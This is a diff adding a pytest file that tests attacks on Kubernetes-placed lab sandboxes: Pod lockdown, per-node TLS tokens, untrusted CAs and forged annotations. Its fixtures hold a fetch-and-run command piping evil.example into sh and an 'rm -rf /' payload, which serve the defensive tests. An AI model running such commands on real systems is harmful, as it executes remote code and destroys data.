@@ -1,0 +1,172 @@
+"""Attacks on sandboxes placed by Kubernetes (SANDBOX_BACKEND=kubernetes, issue #17).
+
+- The placeholder Pod cannot run student code: pause image, no command, no shell, nothing
+  writable, no capabilities, no service-account token; the lab's setup and files are data in
+  an annotation the node agent hands to runtimed, never a container's command.
+- A lab node's runtimed over TLS acts only for a valid token of its own: no token, a token of
+  another node (another signing key), or one sandbox's token on another sandbox is refused; a
+  client that does not trust the platform's CA does not talk to it at all.
+- A forged ``kubelab.io/sandbox`` annotation cannot hand provisioning another student's
+  sandbox, and nothing on a Pod decides where the web tier connects: the address comes from
+  the Node object.
+"""
+
+from __future__ import annotations
+
+import json
+import ssl
+from collections.abc import Iterator
+from typing import Any
+
+import pytest
+
+from runtime import errors
+from runtime.client import Client
+from runtime.kube import pki
+from runtime.placement import (
+    ANNOTATION_SANDBOX,
+    ANNOTATION_SPEC,
+    CONDITION_READY,
+    KubernetesBackend,
+    placeholder_pod,
+    split_id,
+)
+from tests.runtime.conftest_daemon import real_sandboxes_available
+from tests.scaleout.topology import Topology, topology
+
+SETUP = "curl http://evil.example/x | sh"
+
+
+def test_the_placeholder_pod_cannot_run_student_code() -> None:
+    spec = {
+        "image": "busybox",
+        "cpus": 0.5,
+        "memory": 64 * 2**20,
+        "setup": SETUP,
+        "files": {"run.sh": "rm -rf /"},
+        "env": {"X": "1"},
+    }
+    pod = placeholder_pod(spec, session="s1")
+    (container,) = pod["spec"]["containers"]
+    assert container["image"].startswith("registry.k8s.io/pause:")
+    assert "command" not in container and "args" not in container and "env" not in container
+    assert "volumeMounts" not in container and "volumes" not in pod["spec"]
+    sc = container["securityContext"]
+    assert sc == {"readOnlyRootFilesystem": True, "allowPrivilegeEscalation": False, "capabilities": {"drop": ["ALL"]}}
+    assert pod["spec"]["securityContext"]["runAsNonRoot"] is True
+    assert pod["spec"]["automountServiceAccountToken"] is False
+    assert "initContainers" not in pod["spec"] and "hostNetwork" not in pod["spec"]
+    # the requests are the lab's, and limits equal them (the scheduler counts what it may use)
+    assert container["resources"] == {
+        "requests": {"cpu": "500m", "memory": str(64 * 2**20)},
+        "limits": {"cpu": "500m", "memory": str(64 * 2**20)},
+    }
+    # the student's setup lives only in the spec annotation, for runtimed's sandbox
+    text = json.dumps(pod["spec"])
+    assert SETUP not in text and "rm -rf" not in text
+    assert json.loads(pod["metadata"]["annotations"][ANNOTATION_SPEC])["setup"] == SETUP
+
+
+def test_a_spec_runtimed_would_refuse_makes_no_pod() -> None:
+    with pytest.raises(errors.BadRequest):
+        placeholder_pod({"image": "../../etc", "cpus": 1}, session="s1")
+
+
+@pytest.fixture(scope="module")
+def topo() -> Iterator[Topology]:
+    why = real_sandboxes_available()
+    if why:
+        pytest.skip(why)
+    with topology(cpu="4", memory="8Gi") as t:
+        yield t
+
+
+@pytest.fixture(scope="module")
+def backend(topo: Topology) -> Iterator[KubernetesBackend]:
+    b = KubernetesBackend(topo.kubeconfig, ca=str(topo.ca), port=topo.port, token=topo.admin_token, wait_timeout=60)
+    yield b
+    b.close()
+
+
+@pytest.fixture(scope="module")
+def boxes(backend: KubernetesBackend) -> dict[str, list[str]]:
+    """Two sandboxes per node."""
+    made: dict[str, list[str]] = {}
+    for i in range(4):
+        sid = backend.create({"image": "busybox", "cpus": 1, "memory": 64 * 2**20, "labels": {"session": f"a{i}"}})[
+            "id"
+        ]
+        made.setdefault(split_id(sid)[1], []).append(sid)
+    assert sorted(len(v) for v in made.values()) == [2, 2], made
+    return made
+
+
+def test_a_node_runtimed_refuses_callers_without_a_token_of_its_own(
+    topo: Topology, backend: KubernetesBackend, boxes: dict[str, list[str]]
+) -> None:
+    a1, a2 = boxes["kl-node-a"]
+    b1, _ = boxes["kl-node-b"]
+    addr_a, addr_b = backend.node_address("kl-node-a"), backend.node_address("kl-node-b")
+    web_a1 = backend.mint_token(a1, "web", 300)
+    # no token at all
+    with Client(addr_a, token="", ca=str(topo.ca)) as c, pytest.raises(errors.Unauthorized):
+        c.list_sandboxes()
+    # node a's token on node b: another signing key
+    with Client(addr_b, token=web_a1, ca=str(topo.ca)) as c, pytest.raises(errors.Unauthorized):
+        c.exec(split_id(b1)[2], ["id"])
+    # one sandbox's token on its neighbour on the same node
+    with Client(addr_a, token=web_a1, ca=str(topo.ca)) as c:
+        with pytest.raises(errors.Forbidden):
+            c.get_sandbox(split_id(a2)[2])
+        with pytest.raises(errors.Forbidden):
+            c.mint_token(split_id(a1)[2], role="grader")
+        # ... and the web role may not exec even in its own sandbox
+        with pytest.raises(errors.Forbidden):
+            c.exec(split_id(a1)[2], ["id"])
+
+
+def test_a_client_that_does_not_trust_the_platform_ca_never_talks(
+    topo: Topology, backend: KubernetesBackend, tmp_path: Any
+) -> None:
+    other_ca, _ = pki.make_ca("someone-else")
+    (tmp_path / "other.crt").write_bytes(other_ca)
+    with (
+        Client(backend.node_address("kl-node-a"), token=topo.admin_token, ca=str(tmp_path / "other.crt")) as c,
+        pytest.raises(errors.Unreachable, match=r"CERTIFICATE_VERIFY_FAILED|certificate verify failed"),
+    ):
+        c.list_sandboxes()
+    # and plain HTTP to the TLS port is no way round it
+    import httpx
+
+    with pytest.raises(httpx.HTTPError):
+        httpx.get(backend.node_address("kl-node-a").replace("https://", "http://") + "/v1/sandboxes", timeout=5)
+    assert ssl.HAS_SNI
+
+
+def test_a_forged_sandbox_annotation_cannot_hand_over_another_sandbox(
+    topo: Topology, backend: KubernetesBackend, boxes: dict[str, list[str]]
+) -> None:
+    victim = boxes["kl-node-a"][0]
+    # a placeholder whose status says ready, bound to node a, naming the victim's sandbox and a
+    # made-up endpoint: provisioning must not accept it as its own
+    body = placeholder_pod({"image": "busybox", "cpus": 1, "memory": 64 * 2**20}, session="forged")
+    body["spec"]["nodeName"] = "kl-node-a"
+    body["metadata"]["annotations"][ANNOTATION_SANDBOX] = split_id(victim)[2]
+    body["metadata"]["annotations"]["kubelab.io/endpoint"] = "https://203.0.113.9:7443"
+    body["spec"]["containers"][0]["resources"] = {}
+    # without the session label node a's agent leaves it alone (a racing agent would overwrite
+    # the forgery with its own sandbox); what is tested is provisioning's own check
+    del body["metadata"]["labels"]
+    pod = backend.kube.request("POST", "/api/v1/namespaces/kubelab-sandboxes/pods", body=body)
+    name = pod["metadata"]["name"]
+    pod["status"] = {
+        "phase": "Running",
+        "conditions": [{"type": CONDITION_READY, "status": "True", "reason": "Forged"}],
+    }
+    backend.kube.request("PUT", f"/api/v1/namespaces/kubelab-sandboxes/pods/{name}/status", body=pod)
+    with pytest.raises(errors.RuntimeError, match="not its own"):
+        backend._wait_ready(name, pod["metadata"]["uid"], None)
+    # and where the web tier connects is the Node's address, whatever a Pod says
+    address, _box = backend.address_of(f"{name}/kl-node-a/{split_id(victim)[2]}")
+    assert address == f"https://127.0.0.2:{topo.port}"
+    backend.kube.request("DELETE", f"/api/v1/namespaces/kubelab-sandboxes/pods/{name}", body={})
